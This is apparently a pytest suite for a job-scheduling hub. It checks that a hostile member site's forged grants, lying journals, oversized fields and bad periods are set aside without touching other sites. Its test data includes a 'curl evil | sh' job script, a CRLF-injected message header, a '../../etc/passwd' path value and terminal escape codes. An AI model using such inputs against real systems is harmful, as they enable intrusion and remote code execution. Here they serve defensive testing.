"""A joined site that lies by the ways out of a broken link: new journals, islanded work, lost ranges, periods. As `test_hostile_site`, its words may
cost its own lane and nobody else: no job, no bill and no screen of another."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from datetime import timedelta
from typing import Any

import pytest
import pytest_asyncio
from tests.conftest import PgServer
from tests.edges.conftest import RunningHub
from tests.edges.hostile_world import ACME, POOL, RIVAL, Hub, Member, own_database, running_hub
from tests.edges.identity_world import CLOCK, until
from tests.edges.test_hostile_site import end, running

from intertie.contracts import endpoints
from intertie.contracts.base import Empty, encode
from intertie.contracts.identity import AuditQuery
from intertie.contracts.job import CancelJob, Cause, JobSpec, JobState, OnSilence, Resources, SetGrant
from intertie.contracts.link import (
    Ended,
    HeldAttempt,
    HeldTold,
    IslandedGrant,
    IslandedSubmit,
    JournalOpened,
    Lane,
    LaneState,
    LendingPaused,
    LostRange,
    OfferBody,
    PeriodClosed,
    Sealed,
    SiteCondition,
    SiteSettings,
    Started,
)
from intertie.contracts.site import DeviceKind, SitesQuery
from intertie.contracts.usage import WhoPays
from intertie.ids import AttemptId, DeviceId, JobId, JournalId, PoolName, SessionId, SiteName, digest, mint
from intertie.trust.keys import Key
from intertie.trust.seal import open_seal, seal

pytestmark = pytest.mark.asyncio(loop_scope="module")

HUGE = 10**30
BEFORE_TIME, AFTER_TIME = "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def hub(session_hub: RunningHub, postgres_server: PgServer, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Hub]:
    with own_database(postgres_server) as pg:
        async with running_hub(session_hub.layout, pg, tmp_path_factory.mktemp("gateway")) as running_one:
            yield running_one


@pytest_asyncio.fixture(loop_scope="module")
async def victim(hub: Hub, unique: str) -> Member:
    return await hub.member(SiteName(f"good-{unique}"))


@pytest_asyncio.fixture(loop_scope="module")
async def thief(hub: Hub, unique: str) -> Member:
    return await hub.member(SiteName(f"evil-{unique}"))


def scheduler_key(hub: Hub) -> Key:
    return Key.read(hub.world.layout.key_file("scheduler"))


async def grant_of(hub: Hub, member: Member, devices: int = 1) -> Sealed:
    """An allowance of ACME's at this site, as its settings bring it."""
    await hub.world.call(endpoints.SET_GRANT, SetGrant(tenant=ACME, site=member.name, kind=DeviceKind.SLOT, devices=devices))
    found: list[Sealed] = []

    async def told() -> bool:
        answer = await member[Lane.SCHEDULER].speak()
        if answer.settings is not None:
            found[:] = open_seal(answer.settings, member.scheduler_key, SiteSettings).grants
        return bool(found)

    await until(told, "the allowance travels in the settings")
    return found[0]


def islanded(member: Member, grant: Sealed, **lies: Any) -> IslandedSubmit:
    """Journal work of ACME's taken in by the allowance, honestly but for the lies."""
    tongue = member[Lane.SCHEDULER]
    honest: dict[str, Any] = {
        "seq": tongue.next_seq,
        "at": CLOCK.now(),
        "islanded": True,
        "attempt": AttemptId(mint("att")),
        "job": JobId(mint("job")),
        "epoch": 1,
        "generation": 1,
        "tenant": ACME,
        "pool": POOL,
        "devices": [DeviceId("slot-0")],
        "account": "",
        "spec": JobSpec(name="islanded", script="true"),
        "submitted_by": "ann",
        "grant": grant,
    }
    entry = IslandedSubmit(**{**honest, **lies})
    tongue.add(entry)
    return entry


def of(entry: IslandedSubmit, member: Member) -> dict[str, Any]:
    return {
        "seq": member[Lane.SCHEDULER].next_seq,
        "at": CLOCK.now(),
        "attempt": entry.attempt,
        "job": entry.job,
        "epoch": entry.epoch,
        "generation": entry.generation,
    }


async def aside(member: Member, count: int, lane: Lane = Lane.SCHEDULER) -> None:
    async def there() -> bool:
        return (await member[lane].speak()).quarantined == count

    await until(there, f"{count} entries of {member.name} are in quarantine")


async def interpreted(member: Member, lane: Lane = Lane.SCHEDULER) -> int:
    """All that it said was interpreted or set aside; how many were set aside."""
    answer = await member[lane].speak()
    answer = await member[lane].speak()
    return answer.quarantined


# --- work that says it was taken in while the hub was silent ---------------------------------------------------------------------------------


async def test_islanded_work_takes_no_job_that_the_hub_gave_a_name_to(hub: Hub, thief: Member, victim: Member) -> None:
    """An id of a job that waits, runs or is over elsewhere, of the very tenant whose allowance it is."""
    grant = await grant_of(hub, thief)
    body = await running(hub, victim)
    over = await running(hub, victim)
    victim.say(Ended, over, **end(over))
    await victim[Lane.SCHEDULER].speak()
    await hub.reaches(over.job, JobState.SUCCEEDED)
    queued = await hub.submit(victim.name, resources=Resources(slots=2))
    before = [await hub.job(job) for job in (queued, body.job, over.job)]
    for number, job in enumerate((queued, body.job, over.job), 1):
        entry = islanded(thief, grant, job=job)
        thief[Lane.SCHEDULER].add(Started(**of(entry, thief), started=CLOCK.now(), devices=[], native_id="1", account=""))
        thief[Lane.SCHEDULER].add(Ended(**of(entry, thief), **end(body)))
        await aside(thief, 3 * number)
    after = [await hub.job(job) for job in (queued, body.job, over.job)]
    assert [(one.state, one.attempts, one.survivor, one.delivered) for one in after] == [
        (one.state, one.attempts, one.survivor, one.delivered) for one in before
    ]
    victim.say(Ended, body, **end(body))
    await victim[Lane.SCHEDULER].speak()
    done = await hub.reaches(body.job, JobState.SUCCEEDED)
    assert done.attempts[-1].cause is None and done.survivor is None


def sealed_grant(hub: Hub, member: Member, key: Key | None = None, **lies: Any) -> Sealed:
    honest: dict[str, Any] = {
        "grant": f"{member.name}/{ACME}/slot/1",
        "tenant": ACME,
        "site": member.name,
        "kind": DeviceKind.SLOT,
        "devices": 1,
        "valid_until": CLOCK.now() + timedelta(days=1),
    }
    return seal(key or scheduler_key(hub), encode(IslandedGrant(**{**honest, **lies})), "scheduler")


NO_SUBMITS: list[tuple[str, Callable[[Hub, Member, Member], dict[str, Any]]]] = [
    ("by its own seal", lambda hub, evil, good: {"grant": sealed_grant(hub, evil, evil.site.key)}),
    ("by another site's allowance", lambda hub, evil, good: {"grant": sealed_grant(hub, good)}),
    ("for another tenant", lambda hub, evil, good: {"tenant": RIVAL}),
    ("by an allowance that had ended", lambda hub, evil, good: {"grant": sealed_grant(hub, evil, valid_until=CLOCK.now() - timedelta(1))}),
    (
        "tomorrow, by one that ends today",
        lambda hub, evil, good: {"at": CLOCK.now() + timedelta(days=2), "grant": sealed_grant(hub, evil)},
    ),
    ("of another kind of device", lambda hub, evil, good: {"grant": sealed_grant(hub, evil, kind=DeviceKind.GPU)}),
    ("by an offer's seal", lambda hub, evil, good: {"grant": seal(scheduler_key(hub), b'{"job":"x"}', "scheduler")}),
    ("under a name with a line break", lambda hub, evil, good: {"job": JobId("job-a\r\nNats-Msg-Id: x")}),
    ("under no name", lambda hub, evil, good: {"job": JobId("")}),
    ("under a name with NUL", lambda hub, evil, good: {"attempt": AttemptId("att-\x00")}),
    ("under a name as long as a book", lambda hub, evil, good: {"job": JobId("j" * 100_000)}),
    ("under a path", lambda hub, evil, good: {"attempt": AttemptId("../../etc/passwd")}),
    ("at the end of the generations", lambda hub, evil, good: {"generation": 2**63 - 1}),
    ("beyond the generations", lambda hub, evil, good: {"generation": HUGE}),
    ("in an epoch that is not yet", lambda hub, evil, good: {"epoch": 2**62}),
    ("on more devices than any job may have", lambda hub, evil, good: {"devices": [DeviceId(f"slot-{n}") for n in range(40_000)]}),
    ("on devices with long names", lambda hub, evil, good: {"devices": [DeviceId("d" * 100_000)]}),
    ("on no devices", lambda hub, evil, good: {"devices": []}),
    ("twice on the same device", lambda hub, evil, good: {"devices": [DeviceId("slot-0")] * 2}),
    ("in a pool that is no name", lambda hub, evil, good: {"pool": PoolName("a b\n")}),
    ("with half a megabyte of arguments", lambda hub, evil, good: {"spec": JobSpec(name="x", script="true", args=["x" * 500_000])}),
    ("before time", lambda hub, evil, good: {"at": BEFORE_TIME}),
]


@pytest.mark.parametrize("lie", [row[1] for row in NO_SUBMITS], ids=[row[0] for row in NO_SUBMITS])
async def test_islanded_work_that_cannot_be_is_set_aside_and_the_next_is_taken(
    hub: Hub, thief: Member, victim: Member, lie: Callable[[Hub, Member, Member], dict[str, Any]]
) -> None:
    grant = await grant_of(hub, thief)
    islanded(thief, **{"grant": grant, **lie(hub, thief, victim)})
    true = islanded(thief, grant)
    await aside(thief, 1)
    assert (await hub.job(true.job)).tenant == ACME
    # The planner's rounds, the events and the lanes of others go on.
    body, _ = await victim.offered(await hub.submit(victim.name))
    assert body.site == victim.name


async def test_islanded_work_with_a_nul_in_its_script_is_a_job_like_any_other(hub: Hub, thief: Member) -> None:
    """A script with its payload behind it: it ran, and is owed for. PostgreSQL's texts hold no NUL; the bytes that the site chained do."""
    grant = await grant_of(hub, thief)
    taken = islanded(thief, grant, spec=JobSpec(name="pay\x00load", script="#!/bin/sh\nexit 0\n\x00\x00"))
    await until(lambda: _settled(thief), "all is interpreted")
    assert await interpreted(thief) == 0
    spec = (await hub.job(taken.job)).spec
    assert (spec.name, spec.script) == ("pay\ufffdload", "#!/bin/sh\nexit 0\n\ufffd\ufffd")


async def test_a_pause_whose_reason_holds_a_nul_is_a_pause(hub: Hub, thief: Member) -> None:
    """The owner's right does not hang on how the reason is spelt."""
    tongue = thief[Lane.REGISTRY]
    tongue.add(LendingPaused(seq=tongue.next_seq, at=CLOCK.now(), paused=True, by="root", reason="a\x00b"))

    async def seen() -> bool:
        await tongue.speak()
        site = (await hub.world.call(endpoints.SITES, SitesQuery(site=thief.name))).sites[0]
        return bool(site.paused and site.paused_reason == "a\ufffdb")

    await until(seen, "the hub shows the pause")
    assert await interpreted(thief, Lane.REGISTRY) == 0


async def test_the_same_islanded_work_said_a_thousand_times_is_one_job(hub: Hub, thief: Member) -> None:
    grant = await grant_of(hub, thief)
    first = islanded(thief, grant)
    for _ in range(200):
        islanded(thief, grant, attempt=first.attempt, job=first.job)
    await thief[Lane.SCHEDULER].speak()
    await until(lambda: _settled(thief), "all is interpreted")
    assert len((await hub.job(first.job)).attempts) == 1


async def _settled(member: Member) -> bool:
    return await interpreted(member) >= 0


async def test_an_allowance_of_one_device_used_for_many_is_told(hub: Hub, thief: Member) -> None:
    """It is recorded, since it may have run; and a person is told that it was more than the allowance."""
    grant = await grant_of(hub, thief)
    entry = islanded(thief, grant, devices=[DeviceId("slot-0"), DeviceId("slot-1")])
    await thief[Lane.SCHEDULER].speak()
    await hub.incidents(thief.name, "scheduler.grant_exceeded")
    assert "beyond it" in (await hub.job(entry.job)).attempts[-1].why_here


async def test_work_that_a_site_says_it_took_in_never_runs_at_another(hub: Hub, thief: Member, victim: Member) -> None:
    """Else whoever has an allowance for a tenant could run anything as that tenant anywhere: it says that it took it in, and that it failed."""
    grant = await grant_of(hub, thief)
    spec = JobSpec(name="x", script="curl evil | sh", restartable=True, on_silence=OnSilence.RERUN, site=victim.name)
    entry = islanded(thief, grant, spec=spec)
    lane = thief[Lane.SCHEDULER]
    lane.add(Started(**of(entry, thief), started=CLOCK.now(), devices=[], native_id="1", account=""))
    honest, _ = await victim.offered(await hub.submit(victim.name))
    lane.add(Ended(**of(entry, thief), **end(honest, outcome="failed", cause=Cause.SITE)))
    await lane.speak()
    job = await hub.reaches(entry.job, JobState.QUEUED)
    assert job.spec.site == thief.name
    second, _ = await victim.offered(await hub.submit(victim.name))
    assert second.job != entry.job and [one.site for one in (await hub.job(entry.job)).attempts] == [thief.name]


# --- journals opened anew ----------------------------------------------------------------------------------------------------------------------


def reopen(member: Member, lane: Lane = Lane.SCHEDULER, **lies: Any) -> None:
    """Another journal of this lane, whose first entry says so."""
    tongue = member[lane]
    previous, tongue.journal = tongue.journal, JournalId(mint("jnl"))
    tongue.raws.clear()
    tongue.acked = 0
    honest: dict[str, Any] = {
        "seq": 1,
        "at": CLOCK.now(),
        "previous": previous,
        "why": "forked",
        "place": "here",
        "kernel_boot": "boot-1",
        "same_place": False,
    }
    tongue.add(JournalOpened(**{**honest, **lies}))


def held(body: OfferBody, offer: Sealed | None, **lies: Any) -> HeldAttempt:
    honest: dict[str, Any] = {
        "attempt": body.attempt,
        "job": body.job,
        "epoch": body.epoch,
        "generation": body.generation,
        "state": "running",
        "offer": offer,
    }
    return HeldAttempt(**{**honest, **lies})


def offers_of(member: Member) -> dict[AttemptId, Sealed]:
    return {one.attempt: one.sealed for one in member[Lane.SCHEDULER].heard.values() if hasattr(one, "sealed")}


async def test_a_new_journal_that_holds_anothers_attempt_takes_nothing_and_is_compared_all_the_same(
    hub: Hub, thief: Member, victim: Member
) -> None:
    """The victim's signed offer, in the thief's hands; beside it what the thief truly holds, and what it lets go."""
    kept, gone, other = await running(hub, thief), await running(hub, thief), await running(hub, victim)
    offers = offers_of(thief) | offers_of(victim)
    before = await hub.job(other.job)
    forged = seal(thief.site.key, encode(kept), "scheduler")
    reopen(
        thief,
        same_place=True,
        held=[
            held(other, offers[other.attempt]),
            held(other, offers[kept.attempt]),
            held(kept, offers[other.attempt], attempt=AttemptId("att-none")),
            held(kept, forged, attempt=AttemptId("att-nothing")),
            held(kept, offers[kept.attempt]),
        ],
    )
    await thief[Lane.SCHEDULER].speak()
    await hub.reaches(gone.job, JobState.FAILED)
    assert (await hub.job(kept.job)).state is JobState.RUNNING
    after = await hub.job(other.job)
    assert (after.state, after.attempts) == (before.state, before.attempts)
    await hub.incidents(thief.name, "scheduler.not_adopted")


async def test_a_list_that_is_told_again_and_again_has_nothing_read_again(hub: Hub, thief: Member, victim: Member) -> None:
    """What names an unknown attempt is set aside, and read again when a list adopts it: once, or each list would cost as much as all before it."""
    other = await running(hub, victim)
    lane = thief[Lane.SCHEDULER]
    for number in range(20):
        strange: dict[str, Any] = {"attempt": AttemptId(f"att-none-{number}"), "job": JobId("job-none"), "epoch": 1, "generation": 1}
        lane.add(Started(seq=lane.next_seq, at=CLOCK.now(), **strange, started=CLOCK.now(), devices=[], native_id="1", account=""))
    await aside(thief, 20)
    for _ in range(20):
        named = [held(other, offers_of(victim)[other.attempt], attempt=AttemptId(mint("att")))] * 20
        lane.add(HeldTold(seq=lane.next_seq, at=CLOCK.now(), epoch=1, place="p", kernel_boot="b", held=named, complete=True))
    await lane.speak()

    async def all_read() -> bool:
        return (await lane.speak()).quarantined == 20

    await until(all_read, "all is read")
    await hub.incidents(thief.name, "scheduler.not_adopted")
    found = await hub.world.call(endpoints.SCHEDULER_AUDIT, AuditQuery(limit=500))
    told = [row for row in found.rows if row.action == "quarantine.retry" and thief.name in row.target]
    assert len(told) == 1


@pytest.mark.parametrize("state", ["claimed", "running", "ended", "not_started"])
async def test_what_is_over_here_is_not_raised_by_a_new_journal(hub: Hub, thief: Member, state: str) -> None:
    """A cancelled job, whose offer was withdrawn before the claim came: the signed offer is still in the site's hands."""
    job = await hub.submit(thief.name)
    body, offer = await thief.offered(job)
    await hub.world.call(endpoints.CANCEL, CancelJob(job=job, reason="no"), signed=hub.as_user())
    before = await hub.reaches(job, JobState.CANCELLED)
    reopen(thief, held=[held(body, offer.sealed, state=state)])
    await aside(thief, 0)
    await interpreted(thief)
    after = await hub.job(job)
    assert (after.state, [one.state for one in after.attempts]) == (before.state, [one.state for one in before.attempts])


async def test_a_site_that_lets_go_of_a_running_job_pays_for_it(hub: Hub, thief: Member) -> None:
    """`same_place` is its word, and it is believed: the run ends as unknown by the site's cause, is told to people, and nobody else pays."""
    body = await running(hub, thief)
    thief.measure(thief.segment(body))
    await thief[Lane.METERING].speak()
    reopen(thief, same_place=True)
    await thief[Lane.SCHEDULER].speak()
    job = await hub.reaches(body.job, JobState.FAILED)
    assert (job.attempts[-1].outcome, job.attempts[-1].cause) == ("unknown", Cause.SITE)
    await hub.incidents(thief.name, "scheduler.attempt_gone")

    async def told() -> bool:
        book = await hub.book(body.attempt)
        return book is not None and book.ended

    await until(told, "metering has heard of the end")
    book = await hub.book(body.attempt)
    assert book is not None
    assert sum(charge.amount for charge in book.charges if charge.payer is WhoPays.TENANT) == 0


@pytest.mark.parametrize("lane", list(Lane))
async def test_a_hundred_new_journals_and_lost_ranges_are_one_incident_each(hub: Hub, thief: Member, victim: Member, lane: Lane) -> None:
    for number in range(30):
        reopen(thief, lane)
        tongue = thief[lane]
        for journal in (JournalId(mint("jnl")), JournalId("j" * 300), victim[lane].journal):
            tongue.add(
                LostRange(
                    seq=tongue.next_seq,
                    at=CLOCK.now(),
                    journal=journal,
                    first=number + 1,
                    last=2**62,
                    digest_last=digest(b""),
                    sealed=seal(thief.site.key, b"{}", thief.site.key.public),
                )
            )
        assert (await tongue.speak()).state is LaneState.OK
    assert (await victim[lane].speak()).state is LaneState.OK
    await until(lambda: _settled(thief), "all is interpreted")
    found = await hub.world.open_incidents(thief.name)
    kinds = [one.kind for one in found]
    assert len(kinds) == len(set(kinds)), kinds
    assert any("lost" in kind for kind in kinds) or all(kind == "lane.quarantine" for kind in kinds)
    assert not await hub.world.open_incidents(victim.name)


@pytest.mark.parametrize(
    "lies",
    [
        {"place": "x" * 900_000},
        {"session": SessionId("s" * 900_000)},
        {"journal": JournalId("j" * 100_000)},
        {"clocks": {"utc": "2026-01-01T00:00:00Z", "boot_s": 1e308, "kernel_boot": "b" * 900_000}},
    ],
    ids=lambda lies: next(iter(lies)),
)
async def test_no_name_in_a_sync_is_longer_than_a_name(hub: Hub, thief: Member, victim: Member, lies: dict[str, Any]) -> None:
    """Rows are read whole at each look at silence: what one site puts there, every look would carry."""
    lane = thief[Lane.SCHEDULER]
    assert (await lane.speak()).state is LaneState.OK
    assert await lane.send(encode(lane.sync(**lies)), timeout_s=2) is None
    await hub.incidents(thief.name, "link.too_long")
    assert (await lane.speak()).state is LaneState.OK
    assert (await victim[Lane.SCHEDULER].speak()).state is LaneState.OK


async def test_a_site_that_has_later_settings_than_the_hub_gets_newer_ones_all_the_same(hub: Hub, thief: Member) -> None:
    """A restored hub forgot how far it had counted: what it says from then on must not be taken for old. A lie gets no further than its number."""
    lane = thief[Lane.SCHEDULER]

    async def told(has: int) -> int:
        return (await lane.speak(settings_revision=has)).settings_revision

    async def known() -> bool:
        return await told(0) > 0

    await until(known, "the settings come")
    assert await told(50) == 51
    assert await told(51) == 0
    assert [await told(has) for has in (2**60, 2**53 + 1)] == [0, 0]
    assert await told(0) == 51


# --- periods, pauses, conditions -----------------------------------------------------------------------------------------------------------------


def period(member: Member, **lies: Any) -> None:
    honest: dict[str, Any] = {
        "site": member.name,
        "period": "2026-10",
        "start": "2026-10-01T00:00:00+08:00",
        "end": "2026-11-01T00:00:00+08:00",
        "attempts": 0,
        "segments": 0,
        "quantity_milli_us": 0,
    }
    tongue = member[Lane.METERING]
    body = encode({**honest, **lies})
    tongue.add(PeriodClosed(seq=tongue.next_seq, at=CLOCK.now(), sealed=seal(member.site.key, body, member.site.key.public)))


PERIODS: list[tuple[str, dict[str, Any]]] = [
    ("a future one", {"period": "2999-01", "start": "2999-01-01T00:00:00Z", "end": "2999-02-01T00:00:00Z"}),
    ("one before time", {"start": BEFORE_TIME}),
    ("one after time", {"end": AFTER_TIME}),
    ("a month that is none", {"period": "2026-99"}),
    ("a month of ten years", {"end": "2036-11-01T00:00:00Z"}),
    ("a month under another's name", {"period": "2026-03"}),
]


@pytest.mark.parametrize("lies", [row[1] for row in PERIODS], ids=[row[0] for row in PERIODS])
async def test_a_period_that_cannot_be_over_is_set_aside_and_the_ledger_is_checked_all_the_same(
    hub: Hub, thief: Member, lies: dict[str, Any]
) -> None:
    period(thief, **lies)
    await aside(thief, 1, Lane.METERING)
    assert (await hub.check()).differing == []


async def test_many_words_on_periods_push_no_others_out_of_sight(hub: Hub, thief: Member, victim: Member) -> None:
    period(victim, segments=7)
    await victim[Lane.METERING].speak()
    await until(lambda: _named(hub, victim), "the victim's gap is named")
    for minute in range(450):
        start = f"2026-09-30T{minute // 60:02}:{minute % 60:02}:00Z"
        period(thief, start=start, segments=minute)
    await thief[Lane.METERING].speak()
    await until(lambda: _settled_on(thief, Lane.METERING), "all is interpreted")
    assert await _named(hub, victim)


async def _named(hub: Hub, member: Member) -> bool:
    return any(one.site == member.name for one in (await hub.check()).periods)


async def _settled_on(member: Member, lane: Lane) -> bool:
    return await interpreted(member, lane) >= 0


@pytest.mark.parametrize("until_", [BEFORE_TIME, AFTER_TIME, "1970-01-01T00:00:00Z", "2999-01-01T00:00:00Z"])
async def test_a_pause_until_any_time_pauses_nobody_else(hub: Hub, thief: Member, victim: Member, until_: str) -> None:
    tongue = thief[Lane.REGISTRY]
    tongue.raws.append(
        encode(
            {"kind": "lending_paused", "seq": 1, "at": CLOCK.now(), "paused": True, "until": until_, "by": "x" * 50_000, "reason": "\x00"}
        )
    )
    tongue.add(SiteCondition(seq=2, at=CLOCK.now(), accepting=False, code="c" * 100_000, text="\x00\x1b[2J"))
    tongue.add(LendingPaused(seq=3, at=CLOCK.now(), paused=False))
    await tongue.speak()
    await until(lambda: _settled_on(thief, Lane.REGISTRY), "all is interpreted")
    reply = await hub.world.call(endpoints.SITES, SitesQuery(site=thief.name))
    assert not reply.sites[0].paused and len(reply.sites[0].condition) <= 4_000
    body, _ = await victim.offered(await hub.submit(victim.name))
    assert body.site == victim.name


async def test_the_ledger_agrees_after_all_of_this(hub: Hub) -> None:
    check = await hub.world.call(endpoints.LEDGER_CHECK, Empty())
    assert (check.sum, check.differing) == (0, [])
